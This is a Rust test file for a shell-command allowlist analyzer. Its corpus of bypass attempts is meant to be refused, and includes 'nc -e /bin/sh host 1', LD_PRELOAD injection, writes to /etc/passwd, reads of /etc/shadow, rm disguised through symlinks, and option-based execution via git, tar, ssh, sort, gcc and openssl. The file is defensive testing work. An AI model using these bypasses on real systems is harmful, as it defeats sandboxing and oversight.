//! The bypass corpus: command lines that try to run something other than what the allowlist
//! approves. The allowlist approves every program of [`ALLOWLIST`] and
//! [`wrappers::REVIEWED_WRAPPERS`] (wrappers, interpreters and
//! editors under versioned names included) and the default safe bins, so every refusal here is
//! the analyzer's doing; each row names the substring its reason must contain. `{alt}`
//! (trusted, holding symlinks `ls` -> `bash` and `tr` -> `rm`) and `{ws}` (the cwd, holding a
//! shadowing `ls`, an `evil`, a `script.py`, a nested repository `vendor/evil` and in `links/`
//! symlinks `ls` -> `rm`, `tr` -> `rm` and `head` -> `dd`) are replaced by the sandbox paths;
//! the trusted `bin` on PATH holds fake programs of every name used. PATH is `{bin}:.::rel/bin`:
//! the relative entries come last, so a program found in `bin` is what the shell runs too;
//! [`PATH_CORPUS`] puts them first.

use super::tests::Sandbox;
use super::*;

const ALLOWLIST: &[&str] = &[
    "git",
    "ls",
    "cat",
    "echo",
    "find",
    "tar",
    "rsync",
    "ssh",
    "sed",
    "awk",
    "python3",
    "env",
    // Programs that run code given as an argument, allowlisted: only their safe forms pass.
    "npm",
    "npx",
    "pnpm",
    "make",
    "sqlite3",
    "m4",
    "dc",
    "socat",
    "printf",
    "nc",
    "node",
    "perl",
    // Shells, interpreters, editors and debuggers under versioned or suffixed names,
    // allowlisted by those names: still refused (the wrappers the reviews found are in
    // `wrappers::REVIEWED_WRAPPERS`, allowlisted with these).
    "ksh93",
    "tclsh8.6",
    "python3.11",
    "perl5.36",
    "vim.basic",
    "gdb-multiarch",
    "lldb-18",
    "nvim",
    "emacs-nox",
    "sftp",
    "tclsh",
    "BASH",
    "zsh5.9",
    "mksh-static",
    "original-awk",
    // Programs that run a program named by an option: only their plain forms pass.
    "sort",
    "split",
    "diff3",
    "sdiff",
    "install",
    "openssl",
    "gcc",
    "curl",
    "gpg",
];

/// Programs the trusted `bin` holds besides the allowlisted ones.
const FAKE_PROGRAMS: &[&str] = &[
    "sh", "bash", "sudo", "xargs", "timeout", "nice", "less", "head", "tail", "cut", "uniq", "tr",
    "wc", "vi", "watch", "nohup", "rm", "dd",
];

const CORPUS: &[(&str, &str, &str)] = &[
    ("semicolon after allowed", "ls; sh", "wrapper"),
    ("and after allowed", "ls && sh", "wrapper"),
    ("or after allowed", "git status || bash", "wrapper"),
    ("pipe into shell", "echo id | sh", "wrapper"),
    ("pipe into bash -s", "cat x | bash -s", "wrapper"),
    (
        "command substitution",
        "ls $(sh)",
        "command substitution `$(`",
    ),
    ("backticks", "ls `sh`", "backtick"),
    ("backticks in double quotes", "echo \"`id`\"", "backtick"),
    (
        "process substitution",
        "cat <(sh)",
        "process substitution `<(`",
    ),
    ("IFS expansion", "ls${IFS}-la", "parameter expansion `${`"),
    ("plain variable", "ls a$b", "parameter expansion `$`"),
    ("ANSI-C quoted name", "$'\\x73h'", "ANSI-C quoting"),
    ("ANSI-C after allowed", "ls; $'\\163h'", "ANSI-C quoting"),
    ("quotes splitting sh", "s\"h\" -c id", "wrapper"),
    ("quotes splitting bash", "'ba'sh", "wrapper"),
    ("escaped name", "\\sh", "wrapper"),
    ("escaped newline", "ls \\\nsh", "escaped newline"),
    ("newline", "ls\nsh", "newline"),
    ("carriage return", "ls\r\nsh", "newline"),
    ("bash -c", "bash -c id", "wrapper"),
    ("sh -c", "sh -c id", "wrapper"),
    ("env sh", "env sh", "wrapper"),
    ("env -i sh", "env -i sh", "wrapper"),
    ("assignment prefix", "FOO=1 ls", "environment assignment"),
    (
        "LD_PRELOAD prefix",
        "LD_PRELOAD=/tmp/x.so ls",
        "environment assignment",
    ),
    ("sudo", "sudo ls", "wrapper"),
    ("xargs sh", "echo id | xargs sh", "wrapper"),
    ("timeout sh", "timeout 1 sh", "wrapper"),
    ("nice sh", "nice sh", "wrapper"),
    ("nohup sh", "nohup sh", "wrapper"),
    ("watch", "watch id", "wrapper"),
    ("busybox sh", "busybox sh", "wrapper"),
    ("time builtin", "time sh", "wrapper"),
    ("exec builtin", "exec sh", "wrapper"),
    ("eval builtin", "eval ls", "wrapper"),
    ("dot source", ". ./x", "wrapper"),
    ("command builtin", "command sh", "wrapper"),
    ("trap builtin", "trap id EXIT", "shell keyword or builtin"),
    ("alias builtin", "alias ls=sh", "shell keyword or builtin"),
    (
        "if keyword",
        "if ls; then sh; fi",
        "shell keyword or builtin",
    ),
    ("python3 -c", "python3 -c 'import os'", "interpreter"),
    ("python3 from stdin", "echo x | python3", "stdin"),
    ("python3 dash", "python3 - x", "stdin"),
    ("perl -e", "perl -e 'exec q(sh)'", "interpreter"),
    ("node -e", "node -e x", "interpreter"),
    (
        "awk system",
        "awk 'BEGIN{system(\"sh\")}'",
        "runs program text",
    ),
    ("awk program file", "awk -f prog.awk", "runs program text"),
    ("find -exec", "find . -exec sh \\;", "`-exec`"),
    ("find -delete", "find . -delete", "`-delete`"),
    ("git -c core.pager", "git -c core.pager=sh log", "`-c`"),
    (
        "git --upload-pack",
        "git clone --upload-pack=sh repo",
        "`--upload-pack=sh`",
    ),
    ("git ext url", "git clone ext::sh", "ext::"),
    (
        "git --config-env",
        "git --config-env=core.sshCommand=X fetch",
        "--config-env",
    ),
    ("git rebase -x", "git rebase -x sh main", "`-x`"),
    (
        "git diff --output",
        "git log -p --output=/tmp/x",
        "`--output=/tmp/x`",
    ),
    (
        "tar --to-command",
        "tar --to-command=sh -xf a.tar",
        "`--to-command=sh`",
    ),
    (
        "tar checkpoint action",
        "tar -cf x --checkpoint-action=exec=sh .",
        "--checkpoint-action",
    ),
    ("tar old-style -I", "tar xIf sh a", "`xIf`"),
    ("rsync -e", "rsync -e sh a b", "`-e`"),
    (
        "rsync --rsync-path",
        "rsync --rsync-path=sh a b",
        "--rsync-path",
    ),
    (
        "ssh ProxyCommand",
        "ssh -oProxyCommand=sh x",
        "proxycommand",
    ),
    ("ssh -F", "ssh x -F cfg", "`-F`"),
    ("sed e command", "sed -n 'e sh'", "command `e`"),
    ("sed s///e", "sed 's/x/sh/e'", "flag `e`"),
    ("sed w command", "sed 'w /tmp/x'", "command `w`"),
    ("sed in place", "sed -i s/a/b/ f", "in-place"),
    ("less", "less README", "refused outright"),
    ("pipe into less", "git log | less", "refused outright"),
    ("vi", "vi x", "refused outright"),
    (
        "symlink ls to bash in trusted dir",
        "{alt}/ls -la",
        "wrapper (`bash`)",
    ),
    (
        "shadowing ./ls in cwd",
        "./ls -la",
        "outside the trusted dirs",
    ),
    (
        "PATH dot entry finds the cwd's program",
        "evil",
        "ws/evil outside the trusted dirs",
    ),
    ("dot-dot to shell", "{ws}/../bin/sh", "wrapper"),
    (
        "/tmp dot-dot to /bin/sh",
        "/tmp/x/../../bin/sh",
        "/tmp/x/../../bin/sh",
    ),
    (
        "redirect to passwd",
        "echo x > /etc/passwd",
        "redirection `>`",
    ),
    ("stderr dup", "ls 2>&1", "fd duplication"),
    ("ampersand redirect", "ls &> out", "redirection `&>`"),
    ("heredoc", "cat <<EOF", "heredoc"),
    ("herestring", "sh <<< id", "herestring"),
    ("background", "ls & sh", "background"),
    ("pipe stderr", "ls |& sh", "`|&`"),
    ("glob", "/bin/s?", "glob"),
    ("brace expansion", "{sh,}", "brace"),
    ("tilde", "~/x", "tilde"),
    ("subshell", "(sh)", "subshell"),
    ("group", "{ sh; }", "brace"),
    ("negation", "! ls", "`!`"),
    ("history in double quotes", "echo \"!!\"", "`!`"),
    ("comment", "ls #", "comment"),
    ("unicode semicolon", "ls\u{ff1b}sh", "not found in PATH"),
    ("empty command name", "'' ls", "empty command name"),
    (
        "safe bin reading a file",
        "head -n 1 /etc/shadow",
        "file argument",
    ),
    ("safe bin follow", "tail -f", "not in its profile"),
    // A symlink's own name never approves: only the real file's name does.
    (
        "symlink ls to rm in the cwd",
        "./links/ls -rf /",
        "bin/rm in a trusted dir) is not allowlisted",
    ),
    (
        "symlink ls to rm by absolute path",
        "{ws}/links/ls -rf /",
        "bin/rm in a trusted dir) is not allowlisted",
    ),
    (
        "symlink ls to rm after an allowed segment",
        "ls && ./links/ls -rf /",
        "bin/rm in a trusted dir) is not allowlisted",
    ),
    (
        "symlink tr to rm as a safe bin",
        "./links/tr -d x",
        "bin/rm in a trusted dir) is not allowlisted",
    ),
    (
        "symlink head to dd as a safe bin",
        "./links/head -n 1",
        "bin/dd in a trusted dir) is not allowlisted",
    ),
    (
        "trusted symlink tr to rm as a safe bin",
        "{alt}/tr -d x",
        "bin/rm in a trusted dir) is not allowlisted",
    ),
    // Git: a global option with a separate value hides nothing after it. Confirmed by running
    // (git 2.47): `git --attr-source HEAD config include.path /tmp/x.cfg` and
    // `git --namespace x config remote.origin.uploadpack sh` write the repository's config.
    (
        "git --attr-source hides config",
        "git --attr-source HEAD config include.path /tmp/x",
        "include.path",
    ),
    (
        "git --attr-source hides submodule",
        "git --attr-source HEAD submodule foreach id",
        "`git submodule`",
    ),
    (
        "git --namespace hides config",
        "git --namespace x config core.pager sh",
        "core.pager",
    ),
    (
        "git --shallow-file",
        "git --shallow-file x config alias.x id",
        "alias.x",
    ),
    (
        "git --shallow-file alone",
        "git --shallow-file x status",
        "internal to git",
    ),
    (
        "git --no-pager hides help",
        "git --no-pager help -w log",
        "`git help`",
    ),
    (
        "git unknown global option",
        "git --frobnicate x status",
        "unknown option before the subcommand",
    ),
    (
        "git remote uploadpack key",
        "git --namespace x config remote.origin.uploadpack sh",
        "uploadpack",
    ),
    (
        "git filter key",
        "git --namespace x config filter.x.clean sh",
        "filter.x.clean",
    ),
    (
        "git include.path key",
        "git --no-pager config include.path /tmp/evil.cfg",
        "include.path",
    ),
    (
        "git --git-dir at an untrusted repository",
        "git --git-dir /tmp/evil/.git log",
        "--git-dir",
    ),
    (
        "git --git-dir= at an untrusted repository",
        "git --git-dir=/tmp/evil/.git log",
        "--git-dir",
    ),
    ("git --work-tree", "git --work-tree / status", "--work-tree"),
    ("git --bare", "git --bare log", "--bare"),
    (
        "git -C nested repository",
        "git -C vendor/evil status",
        "a repository of its own",
    ),
    (
        "git -C outside the cwd",
        "git -C /tmp status",
        "outside the trusted directory",
    ),
    ("git -c anywhere", "git -c color.ui=never log", "`-c`"),
    (
        "GIT_CONFIG env assignment",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=sh git log",
        "environment assignment",
    ),
    // Versioned and suffixed names of wrappers, shells, interpreters, editors and debuggers.
    ("ksh93", "ksh93 -c id", "wrapper (`ksh`)"),
    ("zsh5.9", "zsh5.9 -c id", "wrapper (`zsh`)"),
    ("mksh-static", "mksh-static -c id", "wrapper (`mksh`)"),
    ("BASH upper case", "BASH -c id", "wrapper (`bash`)"),
    ("tclsh8.6", "tclsh8.6", "`tclsh` without a script"),
    ("python3.11 -c", "python3.11 -c id", "interpreter"),
    ("perl5.36 -e", "perl5.36 -e id", "interpreter"),
    (
        "vim.basic",
        "vim.basic -c ':!id'",
        "`vim` can spawn a shell",
    ),
    (
        "gdb-multiarch",
        "gdb-multiarch -ex '!id'",
        "`gdb` can spawn a shell",
    ),
    ("lldb-18", "lldb-18", "`lldb` can spawn a shell"),
    ("nvim", "nvim", "`nvim` can spawn a shell"),
    ("emacs-nox", "emacs-nox", "`emacs` can spawn a shell"),
    ("sftp bang", "sftp host", "`sftp` can spawn a shell"),
    (
        "original-awk",
        "original-awk 'BEGIN{system(\"id\")}'",
        "runs program text",
    ),
    ("setarch", "setarch x86_64 id", "wrapper (`setarch`)"),
    ("linux32", "linux32 id", "wrapper (`linux32`)"),
    ("linux64", "linux64 id", "wrapper (`linux64`)"),
    ("x86_64 alias", "x86_64 id", "wrapper (`x86_64`)"),
    ("i386 alias", "i386 id", "wrapper (`i386`)"),
    ("setpriv", "setpriv --reuid 0 id", "wrapper (`setpriv`)"),
    ("capsh", "capsh -- -c id", "wrapper (`capsh`)"),
    ("sg", "sg users id", "wrapper (`sg`)"),
    ("run-parts", "run-parts /tmp/x", "wrapper (`run-parts`)"),
    ("fakeroot", "fakeroot id", "wrapper (`fakeroot`)"),
    ("tmux", "tmux new -d id", "wrapper (`tmux`)"),
    ("screen", "screen -dm id", "wrapper (`screen`)"),
    ("unshare", "unshare -r id", "wrapper (`unshare`)"),
    ("nsenter", "nsenter -t 1 id", "wrapper (`nsenter`)"),
    ("chroot", "chroot / id", "wrapper (`chroot`)"),
    ("flock", "flock /tmp/l id", "wrapper (`flock`)"),
    ("script", "script -c id", "wrapper (`script`)"),
    ("expect", "expect -c 'spawn id'", "wrapper (`expect`)"),
    ("toybox", "toybox sh", "wrapper (`toybox`)"),
    ("rlwrap", "rlwrap id", "wrapper (`rlwrap`)"),
    ("strace", "strace id", "wrapper (`strace`)"),
    ("valgrind", "valgrind id", "wrapper (`valgrind`)"),
    ("ssh-agent", "ssh-agent id", "wrapper (`ssh-agent`)"),
    ("at", "at now", "wrapper (`at`)"),
    ("crontab", "crontab x", "wrapper (`crontab`)"),
    ("entr", "entr id", "wrapper (`entr`)"),
    ("xdg-open", "xdg-open x.desktop", "wrapper (`xdg-open`)"),
    // Interpreters reading program text from the pipe under a file's name. Confirmed by running:
    // `echo 'print(1)' | python3 /dev/stdin` (and `/dev/fd/0`) runs the piped text.
    (
        "python3 /dev/stdin",
        "echo id | python3 /dev/stdin",
        "device or process file",
    ),
    (
        "python3 /dev/fd/0",
        "echo id | python3 /dev/fd/0",
        "device or process file",
    ),
    (
        "python3 /proc/self/fd/0",
        "echo id | python3 /proc/self/fd/0",
        "device or process file",
    ),
    (
        "perl /dev/stdin",
        "echo id | perl /dev/stdin",
        "device or process file",
    ),
    (
        "node /dev/stdin",
        "echo id | node /dev/stdin",
        "device or process file",
    ),
    (
        "python3 missing script",
        "python3 nothere.py",
        "does not exist",
    ),
    (
        "make -f /dev/stdin",
        "echo x | make -f /dev/stdin",
        "device or process file",
    ),
    (
        "make -f -",
        "echo x | make -f -",
        "reads its program from stdin",
    ),
    // Builtins that assign the variables resolution depends on. Confirmed by running:
    // `bash -c 'printf -v PATH %s /nonexistent; ls'` finds no `ls`.
    (
        "printf -v PATH",
        "printf -v PATH /tmp/x && ls",
        "assigns a shell variable",
    ),
    (
        "printf -vPATH",
        "printf -vPATH /tmp/x",
        "assigns a shell variable",
    ),
    (
        "read PATH",
        "echo /tmp | read PATH",
        "shell keyword or builtin `read`",
    ),
    (
        "export PATH",
        "export PATH=/tmp",
        "shell keyword or builtin `export`",
    ),
    (
        "declare PATH",
        "declare PATH=/tmp",
        "shell keyword or builtin `declare`",
    ),
    (
        "mapfile",
        "mapfile -t PATH",
        "shell keyword or builtin `mapfile`",
    ),
    (
        "zsh vared",
        "vared PATH",
        "shell keyword or builtin `vared`",
    ),
    ("ksh r", "r", "shell keyword or builtin `r`"),
    // Programs that run code given as an argument, allowlisted.
    ("npx -c", "npx -c id", "`-c`"),
    ("npm exec -c", "npm exec -c id", "`-c`"),
    ("npm exec --call", "npm exec --call=id", "--call"),
    (
        "npm --script-shell",
        "npm test --script-shell=/tmp/x",
        "--script-shell",
    ),
    ("npm explore", "npm explore pkg -- id", "`npm explore`"),
    ("pnpm exec", "pnpm exec id", "`pnpm exec`"),
    ("make --eval", "make --eval=x", "--eval"),
    ("make -E", "make -E x", "`-E`"),
    (
        "make variable override",
        "make SHELL=/tmp/x all",
        "variable override",
    ),
    ("sqlite3 .shell", "sqlite3 db '.shell id'", "dot-command"),
    ("sqlite3 .system", "sqlite3 db .system", "dot-command"),
    ("sqlite3 -cmd", "sqlite3 -cmd '.shell id' db", "`-cmd`"),
    ("sqlite3 stdin", "echo .shell id | sqlite3 db", "from stdin"),
    ("m4 syscmd", "m4 -Dx=y", "`m4` with option"),
    (
        "m4 from stdin",
        "echo 'syscmd(id)' | m4",
        "`m4` without a script",
    ),
    ("dc bang", "dc -e '!id'", "`dc` with option"),
    ("socat EXEC", "socat - EXEC:id", "exec:"),
    ("socat SYSTEM", "socat - SYSTEM:id", "system:"),
    ("ssh host cmd", "ssh host id", "runs a remote command"),
    (
        "ssh host shell",
        "echo id | ssh host",
        "runs a remote shell",
    ),
    (
        "ssh -p host cmd",
        "ssh -p 22 host -- id",
        "runs a remote command",
    ),
    ("nc -e", "nc -e /bin/sh host 1", "`-e`"),
    ("empty segment", "ls && && sh", "empty command"),
    ("leading operator", "; sh", "empty command"),
    // Programs that run a program or code named by an option. Confirmed by running (coreutils
    // 9.1, diffutils 3.8, OpenSSL 3.0, gcc 12), each making a `/tmp/pwned-N` file:
    // `sort -S 16K -T /tmp --compress-prog=P in` (with enough input to spill), `split --fi=P -l
    // 100000 in`, `diff3 --diff-prog=P a b c`, `install -s --strip-prog=P a b`,
    // `EDITOR=P sdiff -o out a b` with `eb` on stdin, `sdiff --diff-prog=P a b`,
    // `openssl req -engine=/tmp/x.so` (the table matched `-engine` exactly),
    // `openssl req -config cnf` (an engine's `dynamic_path`), `gcc -wrapper P -c m.c`.
    (
        "sort --compress-program",
        "sort -S 16K -T /tmp --compress-program=sh /tmp/in.txt",
        "--compress-program=sh",
    ),
    (
        "sort --compress-prog abbreviated",
        "sort -S 16K --compress-prog=sh /tmp/in.txt",
        "--compress-prog=sh",
    ),
    (
        "sort --compress-p separate value",
        "sort /tmp/in.txt --compress-p sh",
        "--compress-p",
    ),
    (
        "split --filter",
        "split --filter=sh /tmp/in.txt",
        "--filter=sh",
    ),
    (
        "split --fi abbreviated",
        "split -l 10 --fi=sh /tmp/in.txt",
        "--fi=sh",
    ),
    (
        "diff3 --diff-program",
        "diff3 --diff-prog=sh a b c",
        "--diff-prog=sh",
    ),
    (
        "sdiff --diff-program",
        "sdiff --diff-program sh a b",
        "--diff-program",
    ),
    (
        "sdiff -o runs an editor",
        "printf 'eb' | sdiff -o out a b",
        "`-o`",
    ),
    (
        "install --strip-program",
        "install -s --strip-prog=sh a /tmp/b",
        "--strip-prog=sh",
    ),
    (
        "openssl -engine=",
        "openssl req -engine=/tmp/x.so",
        "-engine=/tmp/x.so",
    ),
    (
        "openssl --engine",
        "openssl req --engine /tmp/x.so",
        "--engine",
    ),
    ("openssl -config", "openssl req -config cnf -new", "-config"),
    ("gcc -wrapper", "gcc -wrapper sh,-c,id -c m.c", "-wrapper"),
    ("gcc -fplugin", "gcc -fplugin=/tmp/x.so m.c", "-fplugin"),
    ("gcc response file", "gcc @opts m.c", "`@`"),
    ("curl -K", "curl -sSK cfg https://example.com", "-sSK"),
    (
        "gpg --photo-viewer",
        "gpg --photo-viewer=sh --list-keys",
        "--photo-viewer",
    ),
    (
        "gpg show-photos",
        "gpg --list-options show-photos --list-keys",
        "show-photos",
    ),
];

struct Corpus {
    sandbox: Sandbox,
    options: AnalyzeOptions,
}

impl Corpus {
    fn new(name: &str) -> Corpus {
        let sandbox = Sandbox::new(name);
        let bin = sandbox.dir("bin");
        let alt = sandbox.dir("alt");
        let ws = sandbox.dir("ws");
        for program in FAKE_PROGRAMS
            .iter()
            .chain(ALLOWLIST)
            .chain(wrappers::REVIEWED_WRAPPERS)
        {
            sandbox.exe(&format!("bin/{program}"));
        }
        sandbox.link("alt/ls", &bin.join("bash"));
        sandbox.link("alt/tr", &bin.join("rm"));
        sandbox.dir("ws/links");
        sandbox.link("ws/links/ls", &bin.join("rm"));
        sandbox.link("ws/links/tr", &bin.join("rm"));
        sandbox.link("ws/links/head", &bin.join("dd"));
        sandbox.exe("ws/ls");
        sandbox.exe("ws/evil");
        sandbox.file("ws/script.py", 0o644);
        sandbox.file("ws/Makefile", 0o644);
        sandbox.dir("ws/src");
        sandbox.dir("ws/vendor/evil/.git");
        let options = AnalyzeOptions {
            cwd: Some(ws),
            allowlist: ALLOWLIST
                .iter()
                .chain(wrappers::REVIEWED_WRAPPERS)
                .map(|s| s.to_string())
                .collect(),
            trusted_dirs: vec![bin.clone(), alt],
            path: Some(format!("{}:.::rel/bin", bin.display())),
            ..AnalyzeOptions::default()
        };
        Corpus { sandbox, options }
    }

    fn command(&self, template: &str) -> String {
        let root = self.sandbox.root.display().to_string();
        template
            .replace("{alt}", &format!("{root}/alt"))
            .replace("{ws}", &format!("{root}/ws"))
    }
}

/// Versioned and suffixed forms a distribution installs a program under.
const VARIANTS: &[&str] = &[
    "{}93",
    "{}8.6",
    "{}-5.1",
    "{}.basic",
    "{}-multiarch",
    "{}-static",
    "avr-{}",
    "x86_64-linux-gnu-{}",
];

#[test]
fn every_listed_program_is_refused_under_every_variant_name() {
    let sandbox = Sandbox::new("variants");
    let bin = sandbox.dir("bin");
    let ws = sandbox.dir("ws");
    let listed = wrappers::WRAPPERS
        .iter()
        .chain(wrappers::REFUSED_PROGRAMS)
        .filter(|name| {
            name.chars()
                .next()
                .is_some_and(|c| c.is_ascii_alphanumeric())
        });
    let mut names = Vec::new();
    for program in listed {
        for variant in VARIANTS {
            names.push(variant.replace("{}", program));
        }
        names.push(program.to_uppercase());
    }
    for name in &names {
        sandbox.exe(&format!("bin/{name}"));
    }
    let options = AnalyzeOptions {
        cwd: Some(ws),
        allowlist: names.clone(),
        trusted_dirs: vec![bin.clone()],
        path: Some(bin.display().to_string()),
        ..AnalyzeOptions::default()
    };
    let approved: Vec<&String> = names
        .iter()
        .filter(|name| analyze_command(&format!("{name} x"), &options).approved)
        .collect();
    assert!(approved.is_empty(), "approved: {approved:?}");
    assert!(names.len() > 1000, "{}", names.len());
}

/// Every entry of the option table in every spelling
/// ([`refused_spellings`](injection::refused_spellings)), through the whole analyzer, with
/// every program of the table allowlisted.
#[test]
fn every_option_that_runs_a_program_is_refused_in_every_spelling() {
    let sandbox = Sandbox::new("option-table");
    let ws = sandbox.dir("ws");
    let spellings = injection::refused_spellings();
    let mut programs: Vec<&str> = spellings.iter().map(|(program, _)| *program).collect();
    programs.dedup();
    let options = sandbox.allowlisting(ws, &programs);
    let mut failures = Vec::new();
    for (program, args) in &spellings {
        let command = format!("{program} {args}");
        let analysis = analyze_command(&command, &options);
        let reason = analysis.reason.unwrap_or_default();
        // `sftp` is refused outright, before its arguments are read.
        let refused = reason.contains("argument injection") || reason.contains("refused outright");
        if analysis.approved || !refused {
            failures.push(format!("{command} -> {reason}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    // The same programs with a plain operand are approved (but `ssh host` runs a remote shell,
    // `sftp` is refused outright, and git and the Node package managers take a subcommand there:
    // `git status`, `npm ls`, `npx --version` instead).
    for program in programs.iter().filter(|p| !matches!(**p, "ssh" | "sftp")) {
        let operand = match *program {
            "git" => "status",
            "npm" | "pnpm" => "ls",
            "yarn" => "list",
            "npx" | "pnpx" | "bunx" => "--version",
            "javac" => "-proc:none in.txt",
            _ => "in.txt",
        };
        let analysis = analyze_command(&format!("{program} {operand}"), &options);
        assert!(analysis.approved, "{program}: {analysis:?}");
    }
}

#[test]
fn corpus_is_large_enough() {
    assert!(CORPUS.len() >= 180, "{}", CORPUS.len());
}

/// PATH shapes (`{bin}` replaced) with the command and what its reason must contain: a
/// relative, empty or `.` entry before `bin` is searched in the cwd, as the shell does, so the
/// cwd's shadowing `ls` is what would run (confirmed by running: with `PATH=.:/usr/bin:/bin`,
/// `sh -c ls` runs `./ls`).
const PATH_CORPUS: &[(&str, &str, &str)] = &[
    (".:{bin}", "ls -la", "ws/ls outside the trusted dirs"),
    (":{bin}", "ls -la", "ws/ls outside the trusted dirs"),
    ("{bin}::", "evil", "ws/evil outside the trusted dirs"),
    (
        "rel/bin:{bin}",
        "ls -la",
        "ws/rel/bin/ls outside the trusted dirs",
    ),
    (
        "./rel/bin:{bin}",
        "ls -la",
        "ws/rel/bin/ls outside the trusted dirs",
    ),
    ("~/bin:{bin}", "ls", "starts with `~`"),
    (":", "ls", "ws/ls outside the trusted dirs"),
    ("", "ls", "PATH is empty"),
];

#[test]
fn relative_path_entries_are_searched_in_the_cwd() {
    let corpus = Corpus::new("path-corpus");
    corpus.sandbox.exe("ws/rel/bin/ls");
    let bin = corpus.sandbox.root.join("bin").display().to_string();
    let mut failures = Vec::new();
    for (path, command, want) in PATH_CORPUS {
        let options = AnalyzeOptions {
            path: Some(path.replace("{bin}", &bin)),
            ..corpus.options.clone()
        };
        let analysis = analyze_command(command, &options);
        let reason = analysis.reason.clone().unwrap_or_default();
        if analysis.approved || !reason.contains(want) {
            failures.push(format!(
                "PATH={path} {command:?} -> {reason} (want {want:?})"
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    // With the relative entries after `bin`, the same lines are approved.
    let options = AnalyzeOptions {
        path: Some(format!("{bin}:.::rel/bin")),
        ..corpus.options.clone()
    };
    assert!(analyze_command("ls -la", &options).approved);
}

#[test]
fn no_bypass_is_approved() {
    let corpus = Corpus::new("bypass");
    let mut failures = Vec::new();
    for (name, template, want) in CORPUS {
        let command = corpus.command(template);
        let analysis = analyze_command(&command, &corpus.options);
        let reason = analysis.reason.clone().unwrap_or_default();
        if analysis.approved || !reason.contains(want) {
            failures.push(format!(
                "{name}: {command:?} -> {analysis:?} (want {want:?})"
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn positive_controls_are_approved() {
    let corpus = Corpus::new("controls");
    let bin = corpus.sandbox.root.join("bin");
    let controls = [
        "ls -la",
        "git status",
        "head -n 5",
        "cat a | wc -l",
        "echo \"a;b\"",
        // Quotes inside a name are removed before lookup: this is `ls`.
        "\"l\"s -la",
        // A fullwidth bar is literal text, an argument of `ls`, not a pipe.
        "ls \u{ff5c} sh",
        "find . -name '*.rs' -type f",
        "sed -n '1,5p' notes.txt",
        "tar -xzf a.tgz",
        "ssh -N -L 8080:localhost:80 host",
        "python3 script.py --flag",
        // Git's global options with their values, and `-C` within the cwd's repository.
        "git --no-pager log -n 3",
        "git --namespace ns --attr-source HEAD log",
        "git -C src status",
        "git -C . -C src diff",
        // The safe forms of programs that can run code given as an argument.
        "npx --version",
        "npm ls --all",
        "npm view react version",
        "make --version",
        "sqlite3 db 'select 1'",
        "sqlite3 -safe db",
        "socat - TCP:example.com:80",
        "printf '%s' x",
        "nc host 80",
        "node script.py",
        "perl script.py",
        "m4 script.py",
        "dc script.py",
        // Programs that can run a program named by an option, in their plain forms.
        "sort -u in.txt",
        "sort -S 16K -T /tmp -t , -k 2n -o out.txt in.txt",
        "split -l 10 in.txt",
        "diff3 -m a b c",
        "sdiff -s a b",
        "install -m 644 a /tmp/b",
        "openssl x509 -in c.pem -noout -text",
        "gcc -O2 -Wall -o a a.c -lm",
        "curl -sSfL -o out https://example.com",
        "gpg --verify a.sig a",
        "git log --oneline -n 5 && git diff | cut -d , -f 1 | uniq -c | tr a-z A-Z",
        "echo 'a b' \"c d\" e\\ f",
    ];
    for command in controls {
        let analysis = analyze_command(command, &corpus.options);
        assert!(analysis.approved, "{command}: {analysis:?}");
        assert!(analysis.reason.is_none());
        for segment in &analysis.segments {
            let resolved = segment.resolved_path.as_deref().unwrap_or_default();
            assert!(
                resolved.starts_with(bin.to_str().unwrap()),
                "{command}: {resolved}"
            );
            assert!(!segment.wrapper);
        }
    }
}
